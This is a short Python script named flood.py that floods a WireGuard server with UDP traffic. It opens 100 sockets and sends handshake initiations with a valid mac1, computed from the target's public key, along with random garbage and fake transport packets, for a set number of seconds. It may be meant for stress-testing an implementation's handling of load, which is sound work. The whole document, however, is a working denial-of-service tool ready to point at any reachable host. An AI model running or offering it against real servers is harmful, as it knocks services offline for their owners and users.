"""flood.py HOST PORT PUBLIC_KEY SECONDS: garbage, and initiations with a right mac1, from many ports."""

import base64
import hashlib
import os
import socket
import sys
import time

host, port, key, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
mac1_key = hashlib.blake2s(b"mac1----" + base64.b64decode(key)).digest()
sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(100)]
for s in sockets:
    s.connect((host, port))
    s.setblocking(False)


def initiation():
    body = b"\x01\0\0\0" + os.urandom(112)
    return body + hashlib.blake2s(body, digest_size=16, key=mac1_key).digest() + bytes(16)


end = time.monotonic() + seconds
while time.monotonic() < end:
    for s in sockets:
        for datagram in (initiation(), os.urandom(148), b"\x04\0\0\0" + os.urandom(92)):
            try:
                s.send(datagram)
            except OSError:
                pass
    time.sleep(0.005)
